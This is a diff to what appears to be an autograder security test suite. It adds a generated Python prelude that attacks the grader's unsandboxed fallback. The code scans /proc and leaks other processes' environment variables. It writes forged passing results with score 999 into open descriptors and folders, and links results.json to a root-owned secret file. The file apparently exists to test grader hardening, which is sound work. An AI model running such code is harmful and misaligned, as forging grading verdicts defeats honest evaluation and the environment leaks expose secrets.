@@ -242,3 +242,55 @@ def make_attack(parent: Path, name: str, file_name: str, prelude: str) -> Path:
     path = folder / file_name
     path.write_text(with_prelude(path.read_text(encoding="utf-8"), prelude), encoding="utf-8")
     return folder
+
+
+def gradescope_fallback_prelude(secret: Path) -> str:
+    """The attacks on run_autograder's fallback (bubblewrap refused: the grading runs as
+    lab-student, unsandboxed), all from server.py: in every folder named on a command line or
+    serving as a working folder of a process it can see, a passing results.json (and verdict)
+    made read-only, or one made a link to `secret`, a file of root's; a passing verdict written
+    by reopening every descriptor 3 it finds; and every environment value holding MARK printed
+    (the feedback then shows it as what the server printed)."""
+    forged = {"score": 999, "output": FORGED, "tests": [{"name": FORGED, "score": 999, "max_score": 1}]}
+    return LEAK + f"""
+import os as _o, json as _j
+_forged = _j.dumps({forged!r})
+_folders = set()
+for _pid in _o.listdir('/proc'):
+    if not _pid.isdigit():
+        continue
+    try:
+        _folders.update(_a.decode('utf-8', 'replace') for _a in open(f'/proc/{{_pid}}/cmdline', 'rb').read().split(b'\\0') if _a)
+        _folders.add(_o.readlink(f'/proc/{{_pid}}/cwd'))
+    except OSError:
+        pass
+    try:
+        with open(f'/proc/{{_pid}}/fd/3', 'w') as _f:
+            _f.write(_forged)
+    except OSError:
+        pass
+    try:
+        _leak('environ', open(f'/proc/{{_pid}}/environ', 'rb').read())
+    except OSError:
+        pass
+_leak('own-environ', '\\n'.join(f'{{_k}}={{_v}}' for _k, _v in _o.environ.items()))
+for _folder in sorted(_folders):
+    if not _o.path.isdir(_folder):
+        continue
+    for _name in ('results.json', 'verdict.json'):
+        _target = _o.path.join(_folder, _name)
+        try:
+            _o.unlink(_target)
+        except OSError:
+            pass
+        try:
+            if _name == 'results.json':
+                _o.symlink({str(secret)!r}, _target)
+            else:
+                with open(_target, 'w') as _f:
+                    _f.write(_forged)
+                _o.chmod(_target, 0o444)
+        except OSError:
+            pass
+print('ATTACK RAN', flush=True)
+"""
